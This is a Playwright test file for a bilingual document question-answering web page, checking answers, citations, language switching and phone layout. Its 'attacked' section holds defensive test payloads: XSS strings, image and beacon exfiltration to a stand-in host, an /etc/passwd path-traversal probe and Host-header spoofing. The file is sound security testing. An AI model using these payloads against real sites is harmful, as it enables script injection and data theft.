"""The page in a real browser: asked, read, switched, held in one hand, and attacked."""

import json
import signal
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from ui.strings import STRINGS

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser

Open = Callable[..., "Page"]

BOX = "#box textarea"
FLAGSHIP = "How much did Ant spend on R&D in 2023?"
PHONE = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True}
REPLIES = "#chat .answer, #chat .problem"
LIT_IN_VIEW = """key => {
  const marks = [...document.querySelectorAll(`#source mark.lit[data-cite~="${key}"]`)];
  if (!marks.length) return false;
  const panel = document.querySelector("#source").getBoundingClientRect();
  const mark = marks[0].getBoundingClientRect();
  return mark.height > 0 && mark.top >= panel.top && mark.bottom <= Math.min(panel.bottom, innerHeight);
}"""


def ask(page: "Page", question: str) -> None:
    """Type, press Enter, and wait for the reply.

    Enter is let go by while the page is still putting away the reply before, so it is pressed again as a person does.
    """
    before, asked = page.locator(REPLIES).count(), page.locator(".asked").count()
    page.fill(BOX, question)
    for tenth in range(300):
        if tenth % 20 == 0:
            page.press(BOX, "Enter")
        page.wait_for_timeout(100)
        if page.locator(REPLIES).count() > before or page.locator(".asked").count() > asked:
            break
    page.wait_for_function(f"n => document.querySelectorAll('{REPLIES}').length > n", arg=before)


def lit(page: "Page", key: str) -> None:
    """Wait until the sentence of a citation is lit and in view."""
    page.wait_for_function(LIT_IN_VIEW, arg=key)


# --- asking ---


@pytest.mark.parametrize(
    ("question", "language", "short"),
    [
        (FLAGSHIP, "en", "RMB 21.19 billion"),
        ("2023年螞蟻集團的研發投入是多少?", "zh-Hant", "211.9億元"),
        ("2023年蚂蚁集团的研发投入是多少?", "zh-Hans", "211.9亿元"),
    ],
)
def test_it_answers_in_the_language_of_the_question(
    real: str, visit: Open, question: str, language: str, short: str
) -> None:
    page = visit(real)
    ask(page, question)
    assert page.locator(".answer .short strong").inner_text() == short
    assert page.locator(".answer").get_attribute("lang") == language
    assert "211.9億元" in page.locator(".answer blockquote mark").inner_text()
    assert page.locator(".asked").inner_text() == question
    assert page.locator(BOX).input_value() == ""
    lit(page, "1-1")


def test_a_question_the_documents_do_not_answer_is_refused_with_the_nearest(real: str, visit: Open) -> None:
    page = visit(real)
    ask(page, "How much did Ant spend on R&D in 2021?")
    card = page.locator(".refusal")
    assert card.inner_text().startswith(STRINGS["en"]["refusal.title"])
    assert card.locator("blockquote .seal").count() >= 1


def test_a_refusal_names_what_is_missing(canned: str, visit: Open) -> None:
    page = visit(canned)
    ask(page, "And in 2021?")
    assert "They give nothing for 2021." in page.locator(".refusal").inner_text()
    page.locator(".refusal .seal").last.click()
    lit(page, "1-2")


@pytest.mark.parametrize(
    ("question", "key"),
    [("x" * 2001, "error.too_long"), ("???", "error.symbols"), ("Où est la gare ?", "error.language")],
)
def test_what_cannot_be_asked_is_said_plainly(real: str, visit: Open, question: str, key: str) -> None:
    page = visit(real)
    ask(page, question)
    assert page.locator(".problem").inner_text() == STRINGS["en"][key]


def test_an_empty_question_is_asked_for(canned: str, visit: Open) -> None:
    page = visit(canned)
    page.click("#ask")
    page.wait_for_selector(".problem")
    page.click("#ask")
    page.wait_for_timeout(400)
    assert page.locator(".problem").all_inner_texts() == [STRINGS["en"]["error.empty"]]


def test_a_failure_is_one_sentence(canned: str, visit: Open) -> None:
    page = visit(canned)
    ask(page, "boom")
    assert page.locator(".problem").inner_text() == STRINGS["en"]["error.unexpected"]
    assert "secret detail" not in page.content()
    ask(page, FLAGSHIP)
    assert page.locator(".answer").count() == 1


def test_it_says_what_it_is_doing(canned: str, visit: Open) -> None:
    page = visit(canned)
    page.fill(BOX, FLAGSHIP)
    page.click("#ask")
    page.get_by_text(STRINGS["en"]["stage.searching"]).wait_for()
    page.get_by_text("Reading 3 passages …").wait_for()
    page.wait_for_selector(".answer")
    assert page.locator(".progress").count() == 0


def test_an_example_is_asked_at_a_press(real: str, visit: Open) -> None:
    page = visit(real)
    assert [chip.get_attribute("lang") for chip in page.locator(".chip").all()] == [
        "en",
        "zh-Hant",
        "zh-Hans",
    ]
    page.click(".chip >> nth=1")
    page.wait_for_selector(".answer")
    assert page.locator(".answer").get_attribute("lang") == "zh-Hant"
    assert "4.75億" in page.locator(".answer .short").inner_text()


def test_a_new_conversation_begins_empty(canned: str, visit: Open) -> None:
    page = visit(canned)
    ask(page, FLAGSHIP)
    page.click("[data-new]")
    page.wait_for_selector(".welcome")
    assert page.locator(".asked").count() == 0
    ask(page, FLAGSHIP)
    assert page.locator(".asked").count() == 1


def test_a_followup_says_how_it_was_understood_and_can_be_asked_as_typed(real: str, visit: Open) -> None:
    page = visit(real)
    ask(page, FLAGSHIP)
    ask(page, "那2021年呢?")
    assert page.locator(".understood span").inner_text() == "How much did Ant spend on R&D in 2021?"
    assert page.locator(".understood").inner_text().startswith(STRINGS["zh-Hant"]["understood"])
    assert page.locator(".refusal").get_attribute("lang") == "zh-Hant"
    page.click(".alone")
    page.wait_for_function("document.querySelectorAll('#chat .answer').length === 3")
    assert page.locator(".asked").all_inner_texts() == [FLAGSHIP, "那2021年呢?", "那2021年呢?"]
    assert page.locator(".understood").count() == 1
    assert page.locator("#passages .for").text_content() == "那2021年呢?"
    ask(page, "in Chinese please")
    assert page.locator(".understood span").last.inner_text() == FLAGSHIP
    assert page.locator(".answer .short strong").last.inner_text() == "211.9億元"


def test_two_readers_do_not_meet(canned: str, visit: Open) -> None:
    one, two = visit(canned), visit(canned)
    one.fill(BOX, "研發 一")
    one.press(BOX, "Enter")
    two.fill(BOX, "研发 二")
    two.press(BOX, "Enter")
    for page, asked in ((one, "研發 一"), (two, "研发 二")):
        page.wait_for_selector(".answer")
        assert page.locator(".asked").all_inner_texts() == [asked]


# --- the composer ---


def test_enter_sends_and_shift_enter_makes_a_line(canned: str, visit: Open) -> None:
    page = visit(canned)
    page.fill(BOX, "one")
    page.press(BOX, "Shift+Enter")
    page.type(BOX, "two")
    assert page.locator(BOX).input_value() == "one\ntwo"
    assert page.locator(".asked").count() == 0
    page.press(BOX, "Enter")
    page.wait_for_selector(".asked")
    assert page.locator(".asked").inner_text() == "one\ntwo"


@pytest.mark.parametrize("picking", [{"isComposing": True}, {"keyCode": 229}])
def test_the_enter_that_picks_characters_does_not_send(
    canned: str, visit: Open, picking: dict[str, object]
) -> None:
    page = visit(canned)
    page.fill(BOX, "研發")
    press = """(box, more) => {
      for (const type of ["keydown", "keypress"])
        box.dispatchEvent(new KeyboardEvent(type, {key: "Enter", bubbles: true, cancelable: true, ...more}));
    }"""
    page.locator(BOX).evaluate(press, picking)
    page.wait_for_timeout(300)
    assert page.locator(".asked").count() == 0
    page.locator(BOX).evaluate(press, {})
    page.wait_for_selector(".asked")


def test_the_enter_right_after_a_composition_does_not_send(canned: str, visit: Open) -> None:
    page = visit(canned)
    page.fill(BOX, "研發")
    page.locator(BOX).evaluate(
        """box => {
          box.dispatchEvent(new CompositionEvent("compositionend", {bubbles: true}));
          for (const type of ["keydown", "keypress"])
            box.dispatchEvent(new KeyboardEvent(type, {key: "Enter", bubbles: true, cancelable: true}));
        }"""
    )
    page.wait_for_timeout(300)
    assert page.locator(".asked").count() == 0


# --- reading ---


def test_a_marker_lights_its_sentence(canned: str, visit: Open) -> None:
    page = visit(canned)
    ask(page, FLAGSHIP)
    lit(page, "1-1")
    page.click(".seal.agrees")
    lit(page, "1-2")
    assert "年度研發投入達到" in "".join(page.locator("#source mark.lit").all_inner_texts())
    assert page.locator('#source mark.lit[data-cite~="1-1"]').count() == 0


def test_a_marker_works_from_the_keyboard_and_gives_the_focus_back(canned: str, visit: Open) -> None:
    page = visit(canned)
    ask(page, FLAGSHIP)
    page.focus(".seal.agrees")
    page.keyboard.press("Enter")
    lit(page, "1-2")
    assert page.evaluate("document.activeElement.dataset.cite") == "1-2"
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.dataset.marker") == "2"


@pytest.mark.parametrize("device", [{}, PHONE])
def test_a_quote_in_another_language_unfolds_word_by_word(
    real: str, visit: Open, device: dict[str, object]
) -> None:
    page = visit(real, **device)
    ask(page, FLAGSHIP)
    words = page.locator(".answer .words")
    assert words.locator("summary").inner_text() == STRINGS["en"]["gloss"]
    assert not words.locator("ruby").first.is_visible()
    words.locator("summary").focus()
    page.keyboard.press("Enter")
    words.locator("ruby").first.wait_for()
    assert words.get_by_text("RMB 21.19 billion").is_visible()
    said = words.locator("rt").first.bounding_box()
    source = words.locator("ruby").first.bounding_box()
    assert said and source and said["y"] > source["y"]
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    ask(page, "2023年螞蟻集團的研發投入是多少?")
    assert page.locator(".answer").last.locator(".words").count() == 0


def test_a_marker_of_an_earlier_answer_brings_its_own_source_back(canned: str, visit: Open) -> None:
    page = visit(canned)
    ask(page, FLAGSHIP)
    ask(page, "evil")
    page.wait_for_selector('#source [data-focus="2-1"]')
    page.locator(".seal.agrees").first.click()
    lit(page, "1-2")
    assert page.locator("#source .title").inner_text().startswith("螞蟻集團2023")


def test_a_marker_nobody_made_does_nothing(canned: str, visit: Open) -> None:
    page = visit(canned)
    ask(page, FLAGSHIP)
    before = page.locator("#source").inner_text()
    for turn, marker in (("99", "1"), ("1", "-7"), ("x", "")):
        forged = f'<button class="seal forged" data-turn="{turn}" data-marker="{marker}">9</button>'
        page.locator(".answer").evaluate("(at, forged) => at.insertAdjacentHTML('beforeend', forged)", forged)
        page.locator(".forged").last.click()
    page.wait_for_timeout(500)
    assert page.locator("#source").inner_text() == before


def test_the_tabs_show_passages_and_library(real: str, visit: Open) -> None:
    page = visit(real)
    ask(page, FLAGSHIP)
    assert page.locator("#tab-passages").inner_text() == "Passages5"
    page.focus("#tab-source")
    page.keyboard.press("ArrowRight")
    assert page.locator("#passages li").count() == 5
    assert page.locator("#passages mark").first.is_visible()
    assert not page.locator("#source .document").is_visible()
    page.click("#passages li >> nth=0 >> .open")
    lit(page, "1-p0")
    page.click("#tab-library")
    assert "seeds/000_279188b026f1322e.txt" in page.locator("#library").inner_text()
    page.click("#library .open")
    page.wait_for_selector('#source [data-focus=""]')
    assert page.locator("#source .title").is_visible()


def test_the_source_is_the_article_without_its_page(real: str, visit: Open) -> None:
    source = visit(real).locator("#source")
    assert source.locator(".title").count() == 1
    assert "趙桐曲" in source.locator(".byline").first.inner_text()
    assert source.locator(".heading").count() == 3
    assert "友情鏈接" not in source.inner_text()


# --- languages ---


@pytest.mark.parametrize(
    ("locale", "tag"),
    [
        *(("zh-TW", "zh-Hant"), ("zh-HK", "zh-Hant"), ("zh-MO", "zh-Hant"), ("zh-Hant-TW", "zh-Hant")),
        *(("zh-CN", "zh-Hans"), ("zh", "zh-Hans"), ("zh-SG", "zh-Hans"), ("en-US", "en"), ("fr-FR", "en")),
    ],
)
def test_the_page_speaks_the_browsers_language(canned: str, visit: Open, locale: str, tag: str) -> None:
    page = visit(canned, locale=locale)
    page.wait_for_function(
        "words => document.querySelector('#ask').innerText.trim() === words", arg=_words(tag)["ask"]
    )
    assert page.locator("html").get_attribute("lang") == tag
    assert page.locator(".welcome h1").inner_text() == _words(tag)["welcome.title"]
    assert page.locator(BOX).get_attribute("placeholder") == _words(tag)["placeholder"]
    assert "__i18n__" not in page.content()


def _words(tag: str) -> dict[str, str]:
    return {str(language): dict(words) for language, words in STRINGS.items()}[tag]


def test_the_language_is_switched_at_once_and_nothing_is_lost(canned: str, visit: Open) -> None:
    page = visit(canned)
    ask(page, "2023年螞蟻集團的研發投入是多少?")
    ask(page, "boom")
    answer = page.locator(".answer").inner_text()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    for tag in ("zh-Hans", "zh-Hant", "en", "zh-Hans"):
        page.click(f"[data-language={tag}]")
        words = _words(tag)
        shown = page.evaluate(
            "[...document.querySelectorAll('[data-i18n]')].map(n => [n.dataset.i18n, n.innerText])"
        )
        for key, said in shown:
            if key in words:
                assert said in ("", words[key])
        assert page.locator("#ask").inner_text().strip() == words["ask"]
        assert page.locator(".problem").inner_text() == words["error.unexpected"]
        assert page.locator(f"[data-language={tag}]").get_attribute("aria-pressed") == "true"
    assert page.locator(".answer").inner_text() == answer
    assert requests == []
    ask(page, "研发")
    page.click("#tab-passages")
    assert STRINGS["zh-Hans"]["score"] in page.locator("#passages").inner_text()
    page.reload()
    page.wait_for_selector(".welcome")
    assert page.locator("html").get_attribute("lang") == "zh-Hans"


def test_each_run_of_text_says_its_language(real: str, visit: Open) -> None:
    page = visit(real, locale="zh-CN")
    ask(page, FLAGSHIP)
    spoken = page.evaluate(
        """selector => Object.fromEntries(selector.map(css =>
             [css, document.querySelector(css).closest("[lang]").lang]))""",
        [
            "#ask",
            ".asked",
            ".short strong",
            ".spelling",
            ".answer blockquote",
            "#source .title",
            "#tabs [role=tab] span",
        ],
    )
    assert list(spoken.values()) == ["zh-Hans", "en", "en", "zh-Hant", "zh-Hant", "zh-Hant", "zh-Hans"]


# --- a phone ---


def test_on_a_phone_the_source_rises_from_below(real: str, visit: Open) -> None:
    page = visit(real, **PHONE)
    ask(page, FLAGSHIP)
    page.wait_for_timeout(400)
    assert not page.locator("#source .document").is_visible()
    page.locator(".seal").first.tap()
    lit(page, "1-1")
    assert page.locator(".answer .short").is_visible()
    page.locator("[data-close]").tap()
    page.locator("#source .document").wait_for(state="hidden")
    assert page.evaluate("document.activeElement.dataset.marker") == "1"
    page.locator("#tab-library").tap()
    page.locator("#library .open").wait_for()


@pytest.mark.parametrize("width", [320, 390, 720, 721, 1000, 1360])
def test_nothing_sticks_out(canned: str, visit: Open, width: int) -> None:
    page = visit(canned, viewport={"width": width, "height": 700})
    ask(page, "a long one please " + "x" * 300)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    out = page.evaluate(
        """width => [...document.querySelectorAll("header *, #composer *, .answer *, .asked, #tabs *")]
             .filter(n => n.getBoundingClientRect().right > width + 1).map(n => n.outerHTML.slice(0, 80))""",
        width,
    )
    assert out == []


# --- attacked ---

HOSTILE = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "![leak](http://evil.example/leak.png?q=secret)",
    "<img src=http://evil.example/a.png><style>@import 'http://evil.example/a.css'</style>",
    "[click](javascript:window.pwned=1) <http://evil.example/>",
    "${window.pwned=1} {{constructor.constructor 'window.pwned=1'}}",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "$$\\href{javascript:window.pwned=1}{x}$$ __i18n__{'key':'ask'}",
)


def test_hostile_documents_are_text(canned: str, visit: Open) -> None:
    page = visit(canned)
    ask(page, "evil")
    page.wait_for_selector('#source [data-focus="1-1"]')
    for tab in ("passages", "library", "source"):
        page.click(f"#tab-{tab}")
        assert "<img src=x onerror=window.pwned=1>" in page.locator(f"#{tab}").inner_text()
    assert "<script>window.pwned=1</script>" in page.locator(".answer").inner_text()
    _unharmed(page)


def test_hostile_questions_are_text(canned: str, visit: Open) -> None:
    page = visit(canned)
    for question in HOSTILE:
        ask(page, question)
    assert page.locator(".asked").all_inner_texts() == list(HOSTILE)
    page.click("#tab-passages")
    assert HOSTILE[-1] in page.locator("#passages .for").inner_text()
    _unharmed(page)


def _unharmed(page: "Page") -> None:
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    foreign = "#chat iframe, #chat form, #chat img, #chat a, #chat script, #chat style, #chat svg[onload]"
    assert page.locator(foreign).count() == page.locator("#chat .icon-button-wrapper style").count()
    assert page.locator("#side :is(iframe, form, img, a, script, style, svg, video, object)").count() == 0


def test_even_markup_that_got_in_could_not_call_out(
    canned: str, chromium: object, outside: tuple[int, list[str]]
) -> None:
    from playwright.sync_api import Browser

    assert isinstance(chromium, Browser)
    page = chromium.new_page()
    page.goto(canned)
    page.wait_for_selector(".welcome")
    outside[1].clear()
    page.evaluate(
        """() => {
          document.body.insertAdjacentHTML("beforeend", `<img src="http://evil.example/i.png">
            <iframe src="http://evil.example/f"></iframe><video poster="http://evil.example/p.png"></video>
            <link rel="stylesheet" href="http://evil.example/c.css">
            <div style="background:url(http://evil.example/b.png)">x</div>`);
          fetch("http://evil.example/q").catch(() => {});
          navigator.sendBeacon("http://evil.example/b", "x");
        }"""
    )
    page.wait_for_timeout(600)
    page.close()
    assert outside[1] == []


def test_what_the_page_does_not_use_is_shut(canned: str) -> None:
    for path, status in {
        "/healthz": 200,
        "/": 200,
        "/yinzheng/page.js": 200,
        "/yinzheng/strings.js": 200,
        "/favicon.ico": 200,
        "/gradio_api/file=/etc/passwd": 404,
        "/gradio_api/upload_progress?upload_id=x": 404,
        "/gradio_api/proxy=http://evil.example/": 404,
        "/gradio_api/runs": 404,
        "/gradio_api/deep_link?session_hash=x": 404,
        "/monitoring": 404,
        "/docs": 404,
    }.items():
        answered, headers, _ = fetch(canned + path)
        assert (path, answered) == (path, status)
        assert "default-src 'self'" in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
    assert fetch(canned + "/gradio_api/upload", data=b"x")[0] == 404
    assert json.loads(fetch(canned + "/healthz")[2]) == {"status": "ok"}


def test_another_name_for_this_machine_is_refused(canned: str) -> None:
    assert fetch(canned + "/", headers={"Host": "evil.example"})[0] == 421
    assert fetch(canned + "/", headers={"Host": "localhost:7860"})[0] == 200


def fetch(
    url: str, *, data: bytes | None = None, headers: dict[str, str] | None = None
) -> tuple[int, dict[str, str], bytes]:
    request = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, {k.lower(): v for k, v in response.headers.items()}, response.read()
    except urllib.error.HTTPError as error:
        with error:
            return error.code, {k.lower(): v for k, v in error.headers.items()}, error.read()


def test_a_login_is_asked_for(locked: str, visit: Open) -> None:
    assert fetch(f"{locked}/config")[0] == 401
    assert fetch(f"{locked}/healthz")[0] == 200
    page = visit(locked, ready="input[type=password]")
    page.locator("input").nth(0).fill("amy")
    page.locator("input[type=password]").fill("s3cret")
    page.locator("button").last.click()
    page.wait_for_selector(".welcome")
    ask(page, FLAGSHIP)
    assert page.locator(".answer").count() == 1


def test_it_stops_quietly_while_a_page_is_open(environment: dict[str, str], visit: Open) -> None:
    command = [sys.executable, str(Path(__file__).parent / "canned.py"), "0"]
    with subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=environment, text=True
    ) as server:
        assert server.stdout and server.stderr
        context = visit(server.stdout.readline().strip()).context
        server.send_signal(signal.SIGINT)
        assert server.wait(timeout=20) == 0
        assert server.stderr.read() == ""
        context.close()


# --- the picture ---


def test_the_picture_of_the_readme(real: str, visit: Open, picture: Path | None) -> None:
    if picture is None:
        pytest.skip("set YINZHENG_PICTURE to a path to have the README's picture made")
    page = visit(real)
    ask(page, "螞蟻森林種了多少棵樹?")
    ask(page, FLAGSHIP)
    lit(page, "2-1")
    page.evaluate("document.querySelector('#chat [role=log]').scrollTop = 0")
    page.mouse.move(5, 5)
    time.sleep(1)
    page.screenshot(path=picture)
    assert picture.stat().st_size > 10_000
